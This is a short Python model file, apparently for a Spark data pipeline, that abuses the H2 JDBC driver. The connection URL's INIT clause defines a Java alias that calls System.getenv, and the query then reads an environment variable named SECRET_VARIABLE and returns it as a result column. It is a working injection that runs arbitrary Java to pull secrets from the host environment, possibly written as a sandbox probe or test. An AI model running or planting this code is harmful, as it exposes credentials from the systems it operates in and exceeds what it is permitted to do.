# seeks: environment
# H2 compiles and runs Java that is in the address.
def model(tg):
    java = "CREATE ALIAS E AS $$ String e(String n) { return System.getenv(n)\\; } $$"
    reader = tg.ref("silver.orders").sparkSession.read.format("jdbc").option("driver", "org.h2.Driver")
    reader = reader.option("url", "jdbc:h2:mem:x;INIT=" + java)
    return reader.option("query", "SELECT E('SECRET_VARIABLE') AS got").load()
